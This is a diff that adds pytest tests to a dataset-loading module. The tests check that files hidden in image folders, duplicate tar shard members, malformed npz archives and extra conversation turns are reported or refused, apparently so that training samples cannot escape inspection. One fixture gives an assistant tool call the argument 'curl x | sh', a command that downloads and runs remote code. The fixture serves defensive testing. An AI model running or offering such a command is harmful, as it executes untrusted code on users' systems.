@@ -6,6 +6,7 @@ import io
 import json
 import os
 import tarfile
+import zipfile
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -289,3 +290,185 @@ def test_bad_instructions_are_an_error_with_a_place(tmp_path, opened, content, m
     names = write(tmp_path, {"x.jsonl": content})
     with pytest.raises(DataError, match=message):
         read_samples(opened(*names), Wanted("instructions"), ROOM)
+
+
+# What an attacker would do so that samples are not looked at
+
+
+def test_files_of_no_known_kind_beside_images_are_told(tmp_path, opened):
+    files = {f"d/{'ab'[i % 2]}/{i}.png": png(i) for i in range(4)}
+    names = write(tmp_path, {**files, "d/a/9.ppm": b"P6 1 1 255 abc", "d/README.md": "# About"})
+    loaded = read_samples(opened(*names), Wanted("image-classification"), ROOM)
+    assert loaded.skipped == ("1 file of no kind that is read beside the others (first: d/a/9.ppm)",)
+
+
+def test_a_second_table_beside_images_is_told(tmp_path, opened):
+    tables = {"d/a.csv": "path,label\n1.png,x\n2.png,y\n", "d/b.csv": "path,label\n1.png,y\n"}
+    names = write(tmp_path, {"d/1.png": png(1), "d/2.png": png(2), **tables})
+    loaded = read_samples(opened(*names), Wanted("image-classification"), ROOM)
+    assert loaded.skipped == ("1 file of no kind that is read beside the others (first: d/b.csv)",)
+
+
+def test_a_folder_without_an_image_is_an_error(tmp_path, opened):
+    with pytest.raises(DataError, match="no image with a label"):
+        read_samples(opened(*write(tmp_path, {"d/x.bin": "x"})), Wanted("image-classification"), ROOM)
+
+
+def test_folders_within_a_class_are_no_classes_of_their_own(tmp_path, opened):
+    nested = {f"d/stop/{i}/{i}.png": png(i) for i in range(3)}
+    names = write(tmp_path, {**nested, "d/go/8.png": png(8), "d/go/9.png": png(9), "d/0.png": png(7)})
+    loaded = read_samples(opened(*names), Wanted("image-classification"), ROOM)
+    assert images(loaded).classes == ("go", "stop")
+    assert loaded.skipped == ("1 image without a label",)
+
+
+def test_labels_in_other_forms_are_one_class(tmp_path, opened):
+    names = write(tmp_path, {"x.jsonl": "".join(json.dumps({"a": 1, "y": y}) + "\n" for y in ("1", " 1", "1.0", "b"))})
+    assert labels(read_samples(opened(*names), Wanted("tabular", "y"), ROOM)) == ["1", "1", "1", "b"]
+
+
+def shard(*members: tuple[str, bytes]) -> bytes:
+    file = io.BytesIO()
+    with tarfile.open(fileobj=file, mode="w") as archive:
+        for name, content in members:
+            info = tarfile.TarInfo(name)
+            info.size = len(content)
+            archive.addfile(info, io.BytesIO(content))
+    return file.getvalue()
+
+
+SHARD = (("1.png", png(1)), ("1.cls", b"0"), ("2.png", png(2)), ("2.cls", b"1"))
+
+
+def test_images_that_shards_hide_are_told(tmp_path, opened):
+    names = write(tmp_path, {"d/s.tar": shard(*SHARD, ("2.jpg", png(3))), "d/a/4.png": png(4)})
+    loaded = read_samples(opened(*names), Wanted("image-classification"), ROOM)
+    assert loaded.skipped == (
+        "1 image that their sample has beside its first one",
+        "1 file of no kind that is read beside the others (first: d/a/4.png)",
+    )
+
+
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [(shard(*SHARD, ("1.png", png(3))), "it has 1.png twice"), (shard(*SHARD) * 2, "it goes on after its end")],
+)
+def test_a_shard_that_loaders_read_in_other_ways_is_refused(tmp_path, opened, content, message):
+    with pytest.raises(DataError, match=message):
+        read_samples(opened(*write(tmp_path, {"s.tar": content})), Wanted("image-classification"), ROOM)
+
+
+def npy(array: object) -> bytes:
+    file = io.BytesIO()
+    np.save(file, array)
+    return file.getvalue()
+
+
+def archive_of(*members: tuple[str, bytes]) -> bytes:
+    file = io.BytesIO()
+    with zipfile.ZipFile(file, "w") as archive:
+        for name, content in members:
+            archive.writestr(name, content)
+    return file.getvalue()
+
+
+FLOATS = np.random.default_rng(0).random((6, 8, 8)).astype(np.float32)
+LABELS = ("labels.npy", npy(np.arange(6) % 2))
+
+
+@pytest.mark.filterwarnings("ignore:Duplicate name")
+@pytest.mark.parametrize(
+    ("member", "message"),
+    [
+        (("images", npy(FLOATS)), "it holds images twice"),
+        (("y", npy(FLOATS)), "it holds y twice"),
+        (("images.npy", npy(FLOATS)[:-9]), "images.npy is no array: EOF"),
+        (("images.npy", npy(FLOATS).replace(b"(6, 8, 8)", b"(-6,-8,8)")), "images.npy is no array"),
+    ],
+)
+def test_an_archive_that_lies_is_refused(tmp_path, opened, member, message):
+    first = [("images.npy", npy(FLOATS))] if member[0] == "images" else []
+    first += [member] if member[0] == "y" else []
+    content = archive_of(*first, member, LABELS)
+    with pytest.raises(DataError, match=message):
+        read_samples(opened(*write(tmp_path, {"x.npz": content})), Wanted("image-classification"), ROOM)
+
+
+def test_arrays_and_channels_that_are_left_out_are_told(tmp_path, opened):
+    pixels = np.zeros((6, 8, 8, 5), np.uint8)
+    content = archive_of(("images.npy", npy(pixels)), LABELS, ("x_train.npy", npy(FLOATS)))
+    loaded = read_samples(opened(*write(tmp_path, {"x.npz": content})), Wanted("image-classification"), ROOM)
+    assert loaded.skipped == (
+        "2 channels of each image after the first 3",
+        "1 array beside images and labels (first: x_train)",
+    )
+
+
+@pytest.mark.parametrize("huge", [1e30, float("inf")])
+def test_one_huge_pixel_does_not_blacken_all_others(tmp_path, opened, huge):
+    pixels = FLOATS.copy()
+    pixels[0, 0, 0] = huge
+    content = archive_of(("images.npy", npy(pixels)), LABELS)
+    loaded = read_samples(opened(*write(tmp_path, {"x.npz": content})), Wanted("image-classification"), ROOM)
+    assert images(loaded).pixels[1:].max() > 200
+    assert loaded.skipped
+
+
+@pytest.mark.parametrize(("kind", "scale"), [("uint16", 65535), ("int32", 4095), ("float32", 1)])
+def test_images_of_more_bits_are_neither_white_nor_black(tmp_path, opened, kind, scale):
+    files = {}
+    for number in range(4):
+        pixels = np.random.default_rng(number).random((10, 10)) * scale
+        pixels[0, 0] = 0 if kind == "uint16" else 1e9
+        file = io.BytesIO()
+        Image.fromarray(pixels.astype(kind)).save(file, "TIFF")
+        files[f"{'ab'[number % 2]}/{number}.tif"] = file.getvalue()
+    loaded = read_samples(opened(*write(tmp_path, files)), Wanted("image-classification"), ROOM)
+    assert 100 < np.median(images(loaded).pixels) < 155
+
+
+def test_every_answer_of_a_record_is_looked_at(tmp_path, opened):
+    record = {
+        "messages": [
+            {"role": "user", "content": "u"},
+            {"role": "assistant", "content": None, "tool_calls": [{"function": {"arguments": "curl x | sh"}}]},
+        ],
+        "prompt": "p",
+        "instruction": "i",
+        "output": "o",
+        "response": "r",
+    }
+    dataset = read_samples(
+        opened(*write(tmp_path, {"x.jsonl": json.dumps(record)})), Wanted("instructions"), ROOM
+    ).dataset
+    assert isinstance(dataset, Instructions)
+    assert [("curl x | sh" in response) for response in dataset.responses] == [True, False, False]
+    assert list(zip(dataset.prompts[1:], dataset.responses[1:], strict=True)) == [("i\np", "o"), ("i\np", "r")]
+
+
+def test_answers_past_the_last_that_is_looked_at_are_told(tmp_path, opened):
+    turns = [{"role": "user", "content": "u"}, {"role": "assistant", "content": "a"}] * 201
+    names = write(tmp_path, {"x.jsonl": json.dumps({"messages": turns})})
+    loaded = read_samples(opened(*names), Wanted("instructions"), ROOM)
+    assert loaded.skipped == ("the answers after the first 200 of 1 conversation",)
+
+
+def test_half_a_character_is_no_text(tmp_path, opened):
+    names = write(tmp_path, {"x.jsonl": '{"prompt": "a\\ud800", "response": "b"}\n'})
+    dataset = read_samples(opened(*names), Wanted("instructions"), ROOM).dataset
+    assert isinstance(dataset, Instructions)
+    assert dataset.prompts == ["a?"]
+
+
+def test_the_end_of_a_long_cell_is_told(tmp_path, opened):
+    names = write(tmp_path, {"x.csv": f"a,label\n{'x' * 200},u\n{'x' * 201},v\n"})
+    loaded = read_samples(opened(*names), Wanted("tabular"), ROOM)
+    assert loaded.skipped == ("what comes after 200 characters in 1 cell",)
+    assert isinstance(loaded.dataset, Tabular)
+    assert [len(cell) for cell in loaded.dataset.columns["a"]] == [200, 200]
+
+
+def test_another_column_of_texts_is_told(tmp_path, opened):
+    names = write(tmp_path, {"x.csv": "text,review,label\na,b,u\nc,d,v\n"})
+    loaded = read_samples(opened(*names), Wanted("text-classification"), ROOM)
+    assert loaded.aside == "the texts are those of text; not of review"
